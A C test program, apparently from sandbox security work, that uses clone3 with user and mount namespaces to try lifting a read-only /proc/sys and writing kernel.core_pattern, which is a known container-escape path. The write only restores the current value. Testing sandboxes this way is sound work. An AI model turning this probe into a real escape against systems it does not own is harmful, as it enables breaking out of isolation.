/* Attack: clone3(2) takes its flags in a struct, so a seccomp filter cannot see them, and a
 * user-space kernel that only knows clone(2) could lose track of the child.
 * 1. plain clone3 (a child that exits 7);
 * 2. clone3(CLONE_NEWUSER | CLONE_NEWNS): the parent maps the child's uid 0 to its own
 *    (allowed without privilege), and the child, with full capabilities in its new user
 *    namespace, tries to lift the read-only /proc/sys (remount rw, unmount) and write
 *    kernel.core_pattern back with its current value (harmless if it got through).
 * Prints one line per step. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static long clone3_(unsigned long flags) {
    struct clone_args a;
    memset(&a, 0, sizeof a);
    a.flags = flags;
    a.exit_signal = SIGCHLD;
    return syscall(__NR_clone3, &a, sizeof a);
}

static void report(const char *what, int rc) {
    if (rc == 0) printf("%s: ok\n", what);
    else printf("%s: errno %d\n", what, errno);
    fflush(stdout);
}

static void child_in_userns(int go) {
    char c;
    if (read(go, &c, 1) != 1) _exit(3);
    report("child remount /proc/sys rw", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
    report("child umount /proc/sys", umount2("/proc/sys", MNT_DETACH));
    mkdir("/tmp/p", 0755);
    report("child mount proc", mount("proc", "/tmp/p", "proc", 0, NULL));
    char cur[512] = {0};
    int fd = open("/proc/sys/kernel/core_pattern", O_RDONLY);
    ssize_t n = fd >= 0 ? read(fd, cur, sizeof cur - 1) : -1;
    if (fd >= 0) close(fd);
    fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
    if (fd < 0) {
        report("child write core_pattern", -1);
    } else {
        int rc = n > 0 && write(fd, cur, n) == n ? 0 : -1;
        report("child write core_pattern", rc);
    }
    _exit(0);
}

int main(void) {
    long p = clone3_(0);
    if (p == 0) _exit(7);
    if (p < 0) {
        printf("clone3: errno %d\n", errno);
    } else {
        int st = 0;
        waitpid(p, &st, 0);
        printf("clone3: child exit %d\n", WIFEXITED(st) ? WEXITSTATUS(st) : -1);
    }
    fflush(stdout);

    int pp[2];
    if (pipe(pp) != 0) return 1;
    p = clone3_(CLONE_NEWUSER | CLONE_NEWNS);
    if (p == 0) {
        close(pp[1]);
        child_in_userns(pp[0]);
    }
    if (p < 0) {
        printf("clone3 newuser: errno %d\n", errno);
        return 0;
    }
    printf("clone3 newuser: ok\n");
    fflush(stdout);
    char path[64];
    snprintf(path, sizeof path, "/proc/%ld/setgroups", p);
    int fd = open(path, O_WRONLY);
    if (fd >= 0) { (void)!write(fd, "deny", 4); close(fd); }
    snprintf(path, sizeof path, "/proc/%ld/uid_map", p);
    fd = open(path, O_WRONLY);
    int rc = fd >= 0 && write(fd, "0 0 1", 5) == 5 ? 0 : -1;
    report("map uid 0", rc);
    if (fd >= 0) close(fd);
    (void)!write(pp[1], "g", 1);
    int st = 0;
    waitpid(p, &st, 0);
    return 0;
}
